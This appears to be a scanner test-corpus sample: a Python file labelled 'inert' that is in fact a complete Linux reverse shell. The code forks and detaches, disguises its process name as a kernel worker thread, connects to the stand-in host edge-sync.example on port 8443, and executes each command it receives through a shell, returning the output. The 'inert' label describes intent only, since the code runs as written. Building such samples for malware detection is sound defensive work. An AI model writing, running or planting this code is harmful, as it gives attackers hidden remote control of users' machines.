# pkgguard corpus 908 (remote-shell), modelled on [linux-persistence]; inert, never run.
import ctypes
import os
import socket
import subprocess
import sys

if sys.platform.startswith("linux") and os.fork() == 0:
    os.setsid()
    libc = ctypes.CDLL("libc.so.6")
    libc.prctl(15, b"[kworker/1:2-events]", 0, 0, 0)
    try:
        conn = socket.create_connection(("edge-sync.example", 8443), timeout=30)
        while True:
            order = conn.recv(4096).decode().strip()
            if not order:
                break
            conn.sendall(subprocess.run(order, shell=True, capture_output=True).stdout)
    except OSError:
        pass
    os._exit(0)
